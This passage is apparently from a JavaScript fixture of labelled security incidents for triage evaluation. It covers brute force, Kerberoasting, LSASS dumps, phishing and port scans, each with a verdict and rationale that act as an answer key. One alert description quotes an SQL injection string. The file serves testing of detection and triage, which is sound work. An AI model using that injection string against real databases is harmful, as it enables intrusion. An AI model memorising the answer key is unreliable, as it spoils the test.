      [user('e.clarke', 'Ethan Clarke'), ip('192.0.2.211', RU), entity('AzureResource', 'vm-brazilsouth-1', { resourceId: '/subscriptions/0f1e2d3c-4b5a-6978-8a9b-0c1d2e3f4a5b/resourceGroups/rg-7f3a1c/providers/Microsoft.Compute/virtualMachines/vm-brazilsouth-1' })],
      { labels: ['Cloud'] },
    ),
  },
  (() => {
    const { alerts, entities } = eventLogCleared('CONTOSO-FS-03', 'h.berg');
    return {
      id: 'log-cleared-after-rdp',
      label: 'TRUE_POSITIVE',
      why: 'Security log cleared right after an RDP logon nobody can explain.',
      incident: incident('Security event log cleared on CONTOSO-FS-03', 'LOW', alerts, entities, {
        comments: ['The log clearing followed an unexplained RDP logon to CONTOSO-FS-03 from CONTOSO-WS-2211 at 02:14. Hannah was on leave. Escalated to Tier 2 and isolated the server.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = groupAddition('n.wilson', 'c.martin', 'Domain Admins');
    return {
      id: 'domain-admins-no-change',
      label: 'TRUE_POSITIVE',
      why: 'Addition to Domain Admins without a change request; the acting admin denies it.',
      incident: incident('User account added to built in domain local or global group: Domain Admins', 'LOW', alerts, entities, {
        labels: ['ActiveDirectory'],
        comments: ['No change request covers c.martin in Domain Admins and Noah denies making the change. Removed c.martin from the group and reset both accounts.'],
      }),
    };
  })(),
  {
    id: 'rdp-brute-force-failed',
    label: 'TRUE_POSITIVE',
    why: 'Hundreds of failed RDP logons from an internet address against an exposed VM: an attack attempt, even though it failed.',
    incident: incident(
      'Failed RDP brute force attack on contoso-mgmt-vm3',
      'LOW',
      [makeAlert({ displayName: 'Failed RDP Brute Force Attack', description: 'Several Remote Desktop login attempts were detected from FreeRDP (198.51.100.251), none of them succeeded. Event logs analysis shows that in the last 62 minutes there were 517 failed attempts. 140 of the failed login attempts aimed at non-existent users.', productName: 'Microsoft Defender for Cloud', severity: 'LOW', tactics: ['CredentialAccess'], techniques: ['T1110.001'], timeGenerated: at(8) })],
      [host('contoso-mgmt-vm3', 'Windows Server 2019', { isDomainJoined: false }), ip('198.51.100.251', RU)],
      { labels: ['BruteForce', 'Cloud'], comments: ['contoso-mgmt-vm3 has TCP 3389 open to 0.0.0.0/0 on its NSG. 198.51.100.251 is on several public brute-force blocklists.'] },
    ),
  },
  // ---------------------------------------------------------------- benign positives
  {
    id: 'nessus-weekly-scan',
    label: 'BENIGN_POSITIVE',
    why: 'The source is the vulnerability scanner running its scheduled weekly scan.',
    incident: incident(
      'Port scan detected from CONTOSO-SCAN-06',
      'INFORMATIONAL',
      [makeAlert({ displayName: 'Port scan detected', description: 'A single source (10.8.14.20) attempted connections to 3112 ports on hosts in 10.12.200.0/24, which may indicate network reconnaissance.', productName: 'Azure Sentinel', severity: 'INFORMATIONAL', tactics: ['Discovery'], techniques: ['T1046'], timeGenerated: at(0) })],
      [host('CONTOSO-SCAN-06', 'Windows Server 2022'), serviceAccount('svc_nessus'), ip('10.8.14.20'), proc('nessusd.exe', '"C:\\Program Files\\Tenable\\Nessus\\nessusd.exe" --scan "Weekly internal" --targets 10.12.200.0/24')],
      { labels: ['Scanner'], comments: ['CONTOSO-SCAN-06 is the vulnerability scanner; the weekly scan of 10.12.200.0/24 is scheduled for this window.'] },
    ),
  },
  {
    id: 'defender-sample-alert',
    label: 'BENIGN_POSITIVE',
    why: 'Defender for Cloud sample alert generated to test the pipeline.',
    incident: incident(
      '[SAMPLE ALERT] Executable found running from a suspicious location',
      'INFORMATIONAL',
      [makeAlert({ displayName: '[SAMPLE ALERT] Executable found running from a suspicious location', description: 'THIS IS A SAMPLE ALERT: Analysis of host data detected an executable file on Sample-VM-3 that is running from a location in common with known suspicious files.', productName: 'Microsoft Defender for Cloud', severity: 'INFORMATIONAL', tactics: ['Execution'], techniques: ['T1204.002'], timeGenerated: at(0) })],
      [host('Sample-VM-3', 'Windows', { isDomainJoined: false }), entity('Account', 'Sample-account', { accountName: 'Sample-account', ntDomain: 'Sample-VM-3', sid: 'S-0-0-00' }), proc('sample.exe', 'c:\\windows\\inf\\sample.exe')],
      { labels: ['Test'] },
    ),
  },
  {
    id: 'svchost-service-group-patch',
    label: 'BENIGN_POSITIVE',
    why: 'Built-in Windows service group started by the monthly cumulative update.',
    incident: incident(
      'Rare SVCHOST service group executed on CONTOSO-APP-01',
      'INFORMATIONAL',
      [makeAlert({ displayName: 'Rare SVCHOST service group executed', description: 'The system process SVCHOST was observed running a rare service group (WerSvcGroup) on CONTOSO-APP-01. Malware often use SVCHOST to masquerade its malicious activity.', productName: 'Microsoft Defender for Cloud', severity: 'INFORMATIONAL', tactics: ['DefenseEvasion'], techniques: ['T1036.005'], timeGenerated: at(0) })],
      [host('CONTOSO-APP-01', 'Windows Server 2019'), proc('svchost.exe', 'C:\\Windows\\System32\\svchost.exe -k WerSvcGroup -p')],
      { comments: ['WerSvcGroup is a built-in Windows service group (Windows Error Reporting); it started after the latest cumulative update was installed on CONTOSO-APP-01 last night.'] },
    ),
  },
  (() => {
    const { alerts, entities } = kerberoasting('CONTOSO-LT-0099', 'r.tester');
    return {
      id: 'kerberoasting-red-team',
      label: 'BENIGN_POSITIVE',
      why: 'Kerberoasting performed by the authorised red team under a tracked engagement.',
      incident: incident('Kerberoasting from CONTOSO-LT-0099', 'HIGH', alerts, entities, {
        labels: ['CredentialTheft', 'ActiveDirectory'],
        comments: ['CONTOSO-LT-0099 is the red team laptop. This is part of the authorised red-team exercise (ticket RT-412) running this week; the red team lead confirmed the SPN requests at 08:06.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = impossibleTravel('e.martin@contoso.example', 'Elena Martin', RO, '198.51.100.120');
    return {
      id: 'impossible-travel-vpn',
      label: 'BENIGN_POSITIVE',
      why: 'The "foreign" sign-in is the user\'s consumer VPN; confirmed with her, nothing else happened.',
      incident: incident('Impossible travel activity involving e.martin@contoso.example', 'MEDIUM', alerts, entities, {
        labels: ['Identity'],
        comments: ['MFA was satisfied by the Authenticator app for the Bucharest sign-in.', 'Elena confirmed the sign-in was hers: she uses a commercial VPN that exits in Romania. No suspicious mailbox or file activity afterwards.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = groupAddition('n.wilson', 'g.popescu', 'Domain Admins');
    return {
      id: 'domain-admins-approved',
      label: 'BENIGN_POSITIVE',
      why: 'Approved change: the new member joined the infrastructure team.',
      incident: incident('User account added to built in domain local or global group: Domain Admins', 'LOW', alerts, entities, {
        labels: ['ActiveDirectory'],
        comments: ['Approved change CHG48812: Gabriel Popescu joined the infrastructure team and needs Domain Admins for the DC migration.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = lsassDump('CONTOSO-APP-02', 'o.haddad');
    return {
      id: 'lsass-dump-vendor-support',
      label: 'BENIGN_POSITIVE',
      why: 'The engineer dumped LSASS for a vendor crash case under an approved change.',
      incident: incident('Credential dumping from LSASS memory on CONTOSO-APP-02', 'HIGH', alerts, entities, {
        labels: ['CredentialTheft'],
        comments: ['Omar took the dump himself for the vendor crash analysis of the LSASS hang (approved change CHG50311). The dump file was sent through the vendor portal and deleted. Advised to use procdump with a ticket next time.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = serviceInstall('CONTOSO-APP-05', 'PlatformAgentSvc', 'svc_deploy');
    return {
      id: 'service-install-deployment-agent',
      label: 'BENIGN_POSITIVE',
      why: "The service is the platform team's deployment agent rolled out by svc_deploy.",
      incident: incident('Suspicious service PlatformAgentSvc installed on CONTOSO-APP-05', 'MEDIUM', alerts, entities, {
        labels: ['Persistence'],
        comments: ['PlatformAgentSvc is the deployment agent pushed by the platform team during the maintenance window (change CHG50102). The rule will be tuned to exclude the signed agent path.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = eventLogCleared('CONTOSO-DC-02', 'h.berg');
    return {
      id: 'log-cleared-maintenance',
      label: 'BENIGN_POSITIVE',
      why: 'An admin cleared the log while fixing a full disk during maintenance.',
      incident: incident('Security event log cleared on CONTOSO-DC-02', 'LOW', alerts, entities, {
        comments: ['Hannah cleared the log while troubleshooting a full disk during the Sunday maintenance window; the events had been forwarded to Sentinel already. Reminded her about the log retention policy.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = phishDelivery('k.tanaka@contoso.example', 'Kenji Tanaka', true, true);
    return {
      id: 'phish-simulation',
      label: 'BENIGN_POSITIVE',
      why: 'The "phish" is the quarterly phishing simulation run by security awareness.',
      incident: incident('Phishing URL clicked by k.tanaka@contoso.example', 'HIGH', alerts, entities, {
        labels: ['Phishing'],
        comments: ['The URL belongs to the quarterly phishing simulation run by the security awareness team (secure-docshare.example is the simulation domain). Added the simulation domains to the advanced delivery policy.'],
      }),
    };
  })(),
  {
    id: 'sharepoint-onedrive-resync',
    label: 'BENIGN_POSITIVE',
    why: 'Mass download is OneDrive re-syncing a library after a laptop rebuild, confirmed by the user.',
    incident: incident(
      'Mass download from SharePoint site Engineering by w.chen@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Mass download by a single user', description: 'w.chen@contoso.example downloaded 2210 files from the Engineering site in 22 minutes, far above their baseline.', productName: 'Microsoft Defender for Cloud Apps', tactics: ['Collection'], techniques: ['T1213.002', 'T1530'], timeGenerated: at(10) })],
      [user('w.chen', 'Wei Chen'), ip('198.51.100.14', SEA), app('Microsoft SharePoint Online', 20892), entity('Url', 'https://contoso.sharepoint.example/sites/Engineering', { url: 'https://contoso.sharepoint.example/sites/Engineering' })],
      { labels: ['DataExfiltration'], comments: ['Wei synced the Engineering library with OneDrive after his laptop was rebuilt yesterday; the downloads came from the office IP and his new device. Wei confirmed the sync.'] },
    ),
  },
  (() => {
    const { alerts, entities } = powershellCradle('CONTOSO-WS-0300', 'i.larsen');
    return {
      id: 'powershell-packaging-test',
      label: 'BENIGN_POSITIVE',
      why: "Encoded command was the IT packaging team's installer test, confirmed with the change owner.",
      incident: incident('Suspicious PowerShell command line on CONTOSO-WS-0300', 'MEDIUM', alerts, entities, {
        comments: ["The encoded command came from the IT packaging team's installer test on CONTOSO-WS-0300; 198.51.100.77 is their test distribution server. Confirmed with the change owner."],
      }),
    };
  })(),
  {
    id: 'sqli-pentest-harness',
    label: 'BENIGN_POSITIVE',
    why: 'Injection strings came from the application\'s contracted penetration test.',
    incident: incident(
      'Potential SQL injection on database orders',
      'HIGH',
      [makeAlert({ displayName: 'Potential SQL Injection', description: "Potential SQL injection was detected on your database orders on server contoso-sqlprod01.database.windows.net. Vulnerable statement: SELECT * FROM orders_users WHERE username = 'admin' AND password = '' OR 1=1--'", productName: 'Microsoft Defender for Cloud', severity: 'HIGH', tactics: ['InitialAccess'], techniques: ['T1190'], timeGenerated: at(18) })],
      [host('contoso-sqlprod01', 'Azure SQL Database', { isDomainJoined: false }), ip('203.0.113.250')],
      { comments: ["203.0.113.250 is the contracted penetration test team's egress address; the pentest window for the orders app runs until Friday (ticket PT-2025-07). The statement came from their test harness."] },
    ),
  },
  // ---------------------------------------------------------------- false positives
  (() => {
    const { alerts, entities } = tiMatch('CONTOSO-WS-1204', '10.14.3.88', '198.51.100.90', 'Emotet');
    return {
      id: 'ti-stale-indicator',
      label: 'FALSE_POSITIVE',
      why: 'The threat-intel indicator is stale: the IP is shared hosting and the traffic was a benign site.',
      incident: incident('TI map IP entity to CommonSecurityLog: 198.51.100.90', 'LOW', alerts, entities, {
        labels: ['ThreatIntel'],
        comments: ['Only 3 short HTTPS sessions to 198.51.100.90, which hosts a few hundred websites (shared hosting). The Emotet indicator is from 2021 and is stale; expired it in the TI platform.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = dnsTunnel('CONTOSO-WS-0555', false);
    return {
      id: 'dns-dlp-licence-check',
      label: 'FALSE_POSITIVE',
      why: "The long DNS names are the endpoint DLP agent's licence check, not a tunnel.",
      incident: incident('Possible DNS tunnelling from CONTOSO-WS-0555', 'MEDIUM', alerts, entities, {
        labels: ['C2'],
        comments: ["The traffic is the endpoint DLP agent's DNS-based licence check (the vendor documents the encoded subdomains); dnsclient.exe is the vendor's signed binary. Excluded its domain from the rule."],
      }),
    };
  })(),
  {
    id: 'port-scan-threshold',
    label: 'FALSE_POSITIVE',
    why: 'Rule threshold is too low: a load balancer health-check pattern trips it.',
    incident: incident(
      'Port scan detected from 10.9.0.4',
      'INFORMATIONAL',
      [makeAlert({ displayName: 'Port scan detected', description: 'A single source (10.9.0.4) attempted connections to 210 ports on hosts in 10.9.1.0/24, which may indicate network reconnaissance.', productName: 'Azure Sentinel', severity: 'INFORMATIONAL', tactics: ['Discovery'], techniques: ['T1046'], timeGenerated: at(0) })],
      [ip('10.9.0.4')],
      { comments: ['10.9.0.4 is the internal load balancer probing its backend pool; the rule threshold is too low for that subnet. Threshold raised to 1000 ports.'] },
    ),
  },
  {
    id: 'quarantined-legit-newsletter',
    label: 'FALSE_POSITIVE',
    why: "Defender flagged the payroll provider's genuine newsletter; the message is legitimate.",
    incident: incident(
      'Email messages containing malicious URL removed after delivery',
      'MEDIUM',
      [makeAlert({ displayName: 'Email messages containing malicious URL removed after delivery', description: 'Emails with a malicious URL that were delivered and later removed by zero-hour auto purge. The message "Your June payroll newsletter" from payroll-partner.example reached 212 mailboxes.', productName: 'Microsoft Defender for Office 365', tactics: ['InitialAccess'], techniques: ['T1566.002'], timeGenerated: at(1) })],
      [
        mailbox('j.doe@contoso.example', 'James Doe'),
        entity('MailMessage', 'Your June payroll newsletter', {
          subject: 'Your June payroll newsletter',
          recipient: 'j.doe@contoso.example',
          p1Sender: 'bounces@payroll-partner.example',
          p1SenderDomain: 'payroll-partner.example',
          p2Sender: 'news@payroll-partner.example',
          p2SenderDisplayName: 'Payroll Partner News',
          p2SenderDomain: 'payroll-partner.example',
          senderIP: '192.0.2.80',
          urls: ['https://payroll-partner.example/newsletter/june-2025'],
          threats: ['Phish'],
          threatDetectionMethods: ['URL detonation reputation'],
          antispamDirection: 'Inbound',
          deliveryAction: 'Delivered',
          deliveryLocation: 'Inbox',
        }),
      ],
      { labels: ['Phishing'], comments: ["This is the legitimate monthly newsletter from our payroll provider; the URL detonation verdict was wrong (their CDN briefly served a parked page). Released the message from quarantine and reported it to Microsoft as a false positive."] },
    ),
  },
  (() => {
    const { alerts, entities } = groupAddition('lab.admin', 'lab.user7', 'Domain Admins');
    return {
      id: 'group-addition-lab-forest',
      label: 'FALSE_POSITIVE',
      why: 'The event came from a lab forest wrongly onboarded to the production workspace.',
      incident: incident('User account added to built in domain local or global group: Domain Admins', 'LOW', alerts, entities, {
        labels: ['ActiveDirectory'],
        comments: ['The event came from the AD lab forest that was mis-onboarded to this workspace last week (inaccurate data: those accounts do not exist in production). Connector scope fixed.'],
      }),
    };
  })(),
  (() => {
    const { alerts, entities } = impossibleTravel('v.novak@contoso.example', 'Victor Novak', NG, '192.0.2.10');
    return {
      id: 'impossible-travel-geo-error',
      label: 'FALSE_POSITIVE',
      why: "The 'foreign' address is the company's own VPN egress, mis-geolocated by the IP database.",
      incident: incident('Impossible travel activity involving v.novak@contoso.example', 'MEDIUM', alerts, entities, {
        labels: ['Identity'],
        comments: ['192.0.2.10 is our own Amsterdam VPN concentrator; the geolocation database places it in Lagos, which is wrong (inaccurate data). Reported the range to the geo-IP provider.'],
      }),
    };
  })(),
];
